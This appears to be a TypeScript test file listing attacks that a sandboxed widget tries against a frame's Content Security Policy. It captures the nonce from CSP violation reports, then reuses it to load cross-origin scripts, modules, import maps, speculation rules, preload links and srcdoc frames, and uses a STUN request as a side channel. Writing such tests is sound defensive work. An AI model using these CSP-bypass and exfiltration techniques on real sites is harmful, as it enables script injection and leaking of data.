/** Finds the nonce in what the browser reports about the frame's policy, once for all attacks of a page. */
const NONCE = `
    const nonce = await (globalThis.reportedNonce ??= new Promise((resolve) => {
      const find = (policy) => /'nonce-([^']+)'/.exec(policy)?.[1];
      const take = (policy) => find(policy ?? "") && resolve(find(policy));
      document.addEventListener("securitypolicyviolation", ({ originalPolicy }) => take(originalPolicy));
      globalThis.ReportingObserver && new ReportingObserver((reports) => {
        for (const { body } of reports) take(body.originalPolicy);
      }, { types: ["csp-violation"], buffered: true }).observe();
      new Image().src = elsewhere + "/violation";
      setTimeout(() => resolve("unknown"), 2000); // timer: a policy may have no nonce, and then nothing is reported
    }));`;

/** Resolves whether a script has run, which sets `globalThis.ran`. */
const HAS_RUN = `
    script.nonce = nonce;
    return await new Promise((resolve) => {
      script.onload = () => resolve(true);
      script.onerror = () => resolve(false);
      document.head.append(script);
      setTimeout(() => resolve(globalThis.ran === true), 500);
    });`;

/** What a widget tries with the nonce of the frame. Each is the body of an async function. */
export const NONCE_ATTACKS: { readonly [name: string]: string } = {
  "a script from elsewhere with the nonce of a report": `${NONCE}
    const script = document.createElement("script");
    script.src = elsewhere + "/nonce.js?secret";
    ${HAS_RUN}`,
  "an inline script with the nonce of a report": `${NONCE}
    const script = document.createElement("script");
    script.textContent = "globalThis.ran = true";
    ${HAS_RUN}`,
  "a module that imports from elsewhere with the nonce of a report": `${NONCE}
    const script = document.createElement("script");
    script.type = "module";
    const code = "await import(" + JSON.stringify(elsewhere + "/imported.mjs?secret") + "); globalThis.ran = true";
    script.src = URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
    document.head.append(Object.assign(script, { nonce }));
    await new Promise((resolve) => setTimeout(resolve, 300)); // timer: in the widget: the script may not run meanwhile
    return globalThis.ran === true;`,
  "rules, maps and links with the nonce of a report": `${NONCE}
    const inline = {
      speculationrules: { prefetch: [{ source: "list", urls: [elsewhere + "/rules?secret"] }] },
      importmap: { imports: { secret: elsewhere + "/mapped.mjs?secret" } },
    };
    for (const [type, content] of Object.entries(inline)) {
      const script = document.createElement("script");
      document.head.append(Object.assign(script, { type, nonce, textContent: JSON.stringify(content) }));
    }
    for (const as of ["script", "style", "image", "font", "fetch", "worker"]) {
      for (const rel of ["preload", "modulepreload", "prefetch", "stylesheet"]) {
        const link = document.createElement("link");
        document.head.append(Object.assign(link, { rel, as, nonce, href: elsewhere + "/" + rel + "?" + as }));
      }
    }
    return (await import("secret")) !== undefined;`,
  "a frame with scripts of the nonce of a report": `${NONCE}
    const frame = document.createElement("iframe");
    const run = "new RTCPeerConnection({ iceServers: [{ urls: 'stun:" + elsewhere.slice(7) + "' }] }); parent.postMessage('nonce', '*')";
    const open = "<script nonce='" + nonce + "' ";
    const close = "></" + "script>";
    frame.srcdoc = open + ">" + run + "</" + "script>" + open + "src='" + elsewhere + "/srcdoc.js?secret'" + close +
      open + 'src="data:text/javascript,' + encodeURIComponent(run) + '"' + close +
      open + 'type=module src="data:text/javascript,' + encodeURIComponent(run) + '"' + close;
    return await new Promise((resolve) => {
      addEventListener("message", ({ data }) => data === "nonce" && resolve(true));
      frame.onload = () => setTimeout(() => resolve(false), 300);
      setTimeout(() => resolve(false), 3000);
      element.append(frame);
    });`,
};
